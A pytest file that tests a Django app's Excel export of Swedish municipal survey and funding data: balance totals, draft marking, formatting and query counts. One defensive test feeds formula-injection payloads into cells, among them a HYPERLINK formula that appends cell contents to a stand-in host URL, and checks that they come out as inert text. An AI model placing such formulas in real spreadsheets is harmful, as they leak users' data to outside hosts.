"""The enkät workbook, read back from the real file with openpyxl."""

from __future__ import annotations

import datetime
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from funds.balance import agreement_balance
from funds.demo.rows import demo_file
from funds.models import Agreement, FollowUp, Intervention, NationalArea, SurveyCategory
from funds.money import parse_amount
from reporting.survey.checks import SurveyRefused
from reporting.survey.workbook import (
    ABOUT_SHEET,
    DRAFT_MARK,
    FIRST_DATA_ROW,
    HEADER_ROW,
    NATIONAL_SHEET,
    SUMMARY_SHEET,
    cell_text,
    survey_export,
)
from reporting.survey.writers import WRITERS
from tests import factories as f
from tests.demo_image import demo_restore

pytestmark = pytest.mark.django_db
INTERVENTIONS_SHEET = "Kommunenkät"  # a kommun's own enkät

BALANCE_COLUMNS = {
    "Tilldelat (kr)": "granted",
    "Fördelat (kr)": "allocated",
    "Ofördelat (kr)": "unallocated",
    "Förbrukat (kr)": "spent",
    "Oförbrukat (kr)": "unspent",
    "Återbetalt av mottagare (kr)": "repaid_by_recipients",
    "Återbetalt till staten (kr)": "repaid_to_state",
}


def export(agreement: Agreement, **kwargs):
    buffer = BytesIO()
    result = survey_export(agreement=agreement, output=buffer, exported_by="Test", **kwargs)
    return result, load_workbook(BytesIO(buffer.getvalue()))


def table(sheet) -> list[dict[str, object]]:
    """The data rows under the header row, as dicts by header."""
    rows = list(sheet.iter_rows(min_row=HEADER_ROW, values_only=True))
    header = rows[0]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


def money(value) -> Decimal:
    """A number read back from the file, as exact kronor (openpyxl gives int or float)."""
    return parse_amount(value)


@pytest.fixture
def clean_year(db):
    """A year that passes every check: one area, one recipient, one approved follow-up."""
    org = f.organisation(name="Exportkommunen")
    agreement = f.agreement(org, 2023, status=Agreement.Status.CLOSED)
    area = f.area(
        agreement,
        "1000000.00",
        name="Suicidprevention",
        national_area=NationalArea.objects.get(national_agreement__year=2023, number=4),
    )
    recipient = f.recipient(org, name="Norra stadsdelsförvaltningen")
    allocation = f.allocation(area, recipient, "1000000.00")
    follow_up = f.follow_up(allocation, "900000.50", status=FollowUp.Status.APPROVED)
    f.repayment(area, "99999.50", recipient)
    f.repayment(area, "99999.50")
    # This test brings its own short category lists instead of the reference data's.
    SurveyCategory.objects.filter(year=2023).delete()
    target = SurveyCategory.objects.create(year=2023, group="target_group", label="Unga vuxna")
    goal = SurveyCategory.objects.create(year=2023, group="goal", label="Mindre risker")
    activity = SurveyCategory.objects.create(
        year=2023, group="activity_type", label="Kompetensutveckling"
    )
    # Effekt may stay "Ej besvarat" in the national form: counted, not a problem.
    SurveyCategory.objects.create(year=2023, group="effect", label="Ökad kompetens")
    intervention = Intervention.objects.create(
        follow_up=follow_up,
        name="Samtalsgrupper",
        description="Grupper för unga.",
        responsible_unit="Ungdomsmottagningen",
        amount_spent=Decimal("900000.50"),
        results="Två grupper.",
    )
    intervention.categories.set([target, goal, activity])
    return agreement


def test_the_demo_summary_equals_the_balance_and_every_intervention_is_a_row():
    demo_restore()
    agreement = Agreement.objects.get(organisation__code="0180", year=2023)
    # Every demo report accounts for all its money in approved insatser, but the demo's
    # insatser leave Prestation, Ansvarig verksamhet and Samarbetspartner unanswered: the
    # check lists each insats, a final export is refused and the draft says so.
    with pytest.raises(SurveyRefused):
        export(agreement)
    result, workbook = export(agreement, draft=True)
    unanswered = {item.label: item.count for item in result.check.unanswered}
    total = result.check.interventions
    assert total == 97
    assert unanswered["Prestation"] == unanswered["Samarbetspartner"] == total
    # Three insatser name Ungdomsmottagning as ansvarig verksamhet (the demo's data).
    assert unanswered["Ansvarig verksamhet"] == total - 3 and unanswered["Effekt"] == 86
    assert len(result.check.problems) == total
    assert all("Ej besvarat" in p.message for p in result.check.problems)
    assert all("#insats-" in p.url for p in result.check.problems)
    about = {row[0]: row[1] for row in workbook[ABOUT_SHEET].iter_rows(values_only=True)}
    assert "alla kontroller var godkända" not in about["Exportens status"]
    assert about["Exportens status"].startswith(f"{DRAFT_MARK}: 97 problem")
    assert about["Ej besvarat: Prestation"] == 97 and about["Ej besvarat: Effekt"] == 86
    # 2023's five areas are all followed up by the kommun enkät.
    assert workbook.sheetnames == [SUMMARY_SHEET, NATIONAL_SHEET, INTERVENTIONS_SHEET, ABOUT_SHEET]

    balance = agreement_balance(agreement)
    summary = table(workbook[SUMMARY_SHEET])
    lines, total = summary[:-1], summary[-1]
    assert total["Prioriterat område"] == "Totalt"
    assert [row["Prioriterat område"] for row in lines] == [line.label for line in balance.lines]
    for row, line in zip(lines, balance.lines, strict=True):
        for header, name in BALANCE_COLUMNS.items():
            assert money(row[header]) == getattr(line, name), (line.label, header)
    for header, name in BALANCE_COLUMNS.items():
        assert money(total[header]) == getattr(balance.total, name), header
    assert money(total["Tilldelat (kr)"]) == Decimal("45200000.00")
    assert money(total["Återbetalt till staten (kr)"]) == Decimal("1500000.00")

    rows = table(workbook[INTERVENTIONS_SHEET])
    approved = Intervention.objects.filter(
        follow_up__allocation__priority_area__agreement=agreement,
        follow_up__status=FollowUp.Status.APPROVED,
    )
    assert len(rows) == approved.count() == result.rows
    named = demo_file("interventions_2023")["interventions"]
    assert approved.count() > len(named)  # the named ones and the summary rows
    assert {row["Insats-id"] for row in rows} == set(approved.values_list("pk", flat=True))
    assert sum(money(row["Förbrukat belopp (kr)"]) for row in rows) == sum(
        approved.values_list("amount_spent", flat=True)
    )
    by_name = {row["Insats"]: row for row in rows}
    mvp = by_name["Mentors in violence prevention (MVP)"]
    assert mvp["Mottagare"] == "Skärholmen stadsdelsförvaltning"
    assert mvp["Mottagartyp"] == "Stadsdelsförvaltning"
    assert mvp["Prioriterat område"] == "1. Utvecklingsarbete"
    assert mvp["Målgrupp: Vård- och omsorgstagare 0–17 år"] == "Ja"
    assert mvp["Målgrupp: Vård- och omsorgstagare 65 år och äldre"] == "Nej"
    assert mvp["Perspektiv: Jämställdhet"] == "Ja"
    # One yes/no column per category of the year, nothing else in between.
    categories = SurveyCategory.objects.filter(year=2023).count()
    assert len(workbook[INTERVENTIONS_SHEET][HEADER_ROW]) == 10 + categories + 3
    yes = sum(1 for row in rows for value in row.values() if value == "Ja")
    assert yes == sum(intervention.categories.count() for intervention in approved)


def test_a_draft_is_marked_on_every_sheet(clean_year):
    Intervention.objects.update(amount_spent=Decimal("1.00"))  # a problem remains
    result, workbook = export(clean_year, draft=True)
    assert result.check.problems
    for sheet in workbook.worksheets:
        assert DRAFT_MARK in sheet["A1"].value, sheet.title
        assert sheet.oddHeader.right.text == "UTKAST"
        assert sheet.oddHeader.left.text == "Exportkommunen"
        assert sheet.sheet_properties.tabColor.rgb.endswith("C00000")
    assert workbook.properties.title.endswith("(utkast)")


def test_a_clean_year_exports_without_draft_marks(clean_year):
    result, workbook = export(
        clean_year, now=datetime.datetime(2024, 2, 1, 9, 30, tzinfo=datetime.UTC)
    )
    assert not result.check.problems and not result.draft
    for sheet in workbook.worksheets:
        assert "UTKAST" not in sheet["A1"].value
        assert sheet.freeze_panes == f"B{FIRST_DATA_ROW}"
        assert sheet.oddHeader.right.text is None
        assert sheet.oddHeader.center.text.startswith("Enkät 2023")
    summary = workbook[SUMMARY_SHEET]
    assert summary.auto_filter.ref == f"A{HEADER_ROW}:M{HEADER_ROW + 1}"
    amount = summary.cell(row=FIRST_DATA_ROW, column=6)
    assert amount.data_type == "n" and amount.number_format == '#,##0.00 "kr"'
    assert 40 <= summary.column_dimensions["A"].width < 41  # xlsxwriter adds the padding

    row = table(workbook[INTERVENTIONS_SHEET])[0]
    assert money(row["Förbrukat belopp (kr)"]) == Decimal("900000.50")
    assert row["Effekt: Ökad kompetens"] == "Ej besvarat"  # the group was not answered
    assert row["Målgrupp: Unga vuxna"] == "Ja"
    assert row["Redovisningens status"] == "Godkänd"

    about = {row[0]: row[1] for row in workbook[ABOUT_SHEET].iter_rows(values_only=True)}
    assert about["Organisation"] == "Exportkommunen"
    assert about["År"] == 2023
    assert about["Exporterad av"] == "Test"
    assert about["Exporterad"] == datetime.datetime(2024, 2, 1, 10, 30)  # Swedish time
    assert about["Redovisningar som är godkända"] == about["Redovisningar som väntas"] == 1
    assert about["Insatser på bladet Kommunenkät"] == 1
    listed = [row[1] for row in workbook[ABOUT_SHEET].iter_rows(values_only=True)]
    assert {"Kompetensutveckling", "Mindre risker", "Unga vuxna", "Ökad kompetens"} <= set(listed)
    assert about["Exportens status"] == (
        "Slutlig: inga problem återstod vid exporten. Effekt är Ej besvarat för 1 insats, "
        "vilket enkäten tillåter."
    )
    assert about["Ej besvarat: Effekt"] == 1
    # The category list names each category's column on the interventions sheet.
    for group, label, column in workbook[ABOUT_SHEET].iter_rows(values_only=True):
        if label == "Kompetensutveckling":
            header = workbook[INTERVENTIONS_SHEET][f"{column}{HEADER_ROW}"].value
            assert header == f"{group}: {label}" == "Typ av aktivitet: Kompetensutveckling"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com/?leak="&A1,"Klicka")',
        "+46 8 123 45",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
    ],
)
@pytest.mark.parametrize("writer", WRITERS)
def test_text_that_looks_like_a_formula_arrives_inert(clean_year, text, writer):
    Intervention.objects.update(name=text, results=text)
    _, workbook = export(clean_year, writer=writer)
    sheet = workbook[INTERVENTIONS_SHEET]
    headers = [cell.value for cell in sheet[HEADER_ROW]]
    name = sheet.cell(row=FIRST_DATA_ROW, column=headers.index("Insats") + 1)
    results = sheet.cell(row=FIRST_DATA_ROW, column=headers.index("Resultat och effekter") + 1)
    for cell in (name, results):
        assert cell.data_type == "s"  # a string, never a formula
        assert cell.value == cell_text(text)  # unchanged but for line-break normalisation
        assert cell.quotePrefix


@pytest.mark.parametrize("writer", WRITERS)
def test_the_hyperlink_formula_is_not_in_the_file_as_a_formula(clean_year, writer):
    Intervention.objects.update(name='=HYPERLINK("http://example.com","x")')
    buffer = BytesIO()
    survey_export(agreement=clean_year, output=buffer, exported_by="Test", writer=writer)
    with zipfile.ZipFile(BytesIO(buffer.getvalue())) as archive:
        xml = archive.read("xl/worksheets/sheet3.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml


def test_control_characters_are_removed(clean_year):
    Intervention.objects.update(
        name="Sam\x01tals\x07grupper\x1b",
        description="Rad ett\r\nrad två\x0b\x0c",
        results="\x7fOK\x85",
    )
    _, workbook = export(clean_year)
    row = table(workbook[INTERVENTIONS_SHEET])[0]
    assert row["Insats"] == "Samtalsgrupper"
    assert row["Beskrivning"] == "Rad ett\nrad två"
    assert row["Resultat och effekter"] == "OK"


def test_very_long_text_is_cut_at_excels_limit():
    assert len(cell_text("x" * 40_000)) == 32_767


def test_cell_text_removes_what_xml_cannot_carry():
    # PostgreSQL refuses NUL, but other sources (SQLite, imports) may not.
    assert cell_text("a\x00b\ud800c\uffffd\x9be") == "abcde"
    assert cell_text("tab\tstays") == "tab\tstays"
    assert cell_text(None) == ""


def _grow(agreement: Agreement, interventions: int) -> None:
    follow_up = FollowUp.objects.get(allocation__priority_area__agreement=agreement)
    categories = list(SurveyCategory.objects.filter(year=agreement.year))
    for n in range(interventions):
        item = Intervention.objects.create(
            follow_up=follow_up, name=f"Insats {n}", amount_spent=Decimal("0.00")
        )
        item.categories.set(categories[: 1 + n % len(categories)])


def test_the_export_and_the_check_use_a_constant_number_of_queries(clean_year):
    counts = []
    for more in (0, 25):
        _grow(clean_year, more)
        with CaptureQueriesContext(connection) as queries:
            result, _ = export(clean_year, draft=True)
        counts.append(len(queries))
        assert result.rows == 1 + more
    assert counts[0] == counts[1] <= 8, counts
